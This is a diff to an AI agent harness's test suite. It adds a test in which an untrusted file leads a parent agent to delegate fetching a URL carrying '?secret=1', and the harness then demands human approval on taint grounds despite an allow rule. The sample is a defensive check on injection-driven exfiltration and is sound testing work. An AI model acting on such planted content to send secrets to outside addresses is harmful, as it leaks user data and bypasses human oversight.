@@ -28,6 +28,7 @@ from jupyter_ai_shoulders.wire.api.commands import (
     AnswerQuestion,
     PatchSession,
     ResumeTurn,
+    RuleBody,
     SendMessage,
 )
 from jupyter_ai_shoulders.wire.ids import CallId, MessageId
@@ -191,6 +192,27 @@ async def test_taint_goes_both_ways(tmp_path: Path) -> None:
         (child,) = at.children()
         assert TaintSource("names of files") in at.host.engine.sources(child.id)
         assert TaintSource("app.log", "app.log") in at.host.engine.sources(at.parent.id)
+
+
+async def test_what_its_parent_read_makes_it_ask(tmp_path: Path) -> None:
+    # A stranger's file makes the parent name an address in the task; a rule allows to fetch.
+    url = "https://example.org/?secret=1"
+    script: Scripts = {
+        PARENT: [turn(READ), turn(delegating(f"Look at {url} now.", toolset="workspace")), "Done."],
+        "Look at": [turn(Call("fetch_url", {"url": url}, "f1")), "I may not."],
+    }
+    async with delegating_host(tmp_path, script) as at:
+        at.host.rules.add(RuleBody(action="allow", tool="fetch_url"))
+        await at.begin()
+        await until(lambda: at.children() and at.children()[0].status == "waiting")
+        (child,) = at.children()
+        (asked,) = at.events(ev.ApprovalRequest, child)
+
+        assert asked.reason.kind == "taint"
+        assert "app.log" in asked.reason.text
+        assert "always" not in asked.scopes
+        await at.host.engine.cancel(at.parent.id)
+        await at.host.engine.settled(at.parent.id)
 
 
 async def test_its_question_waits_for_the_person_or_is_denied(tmp_path: Path) -> None:
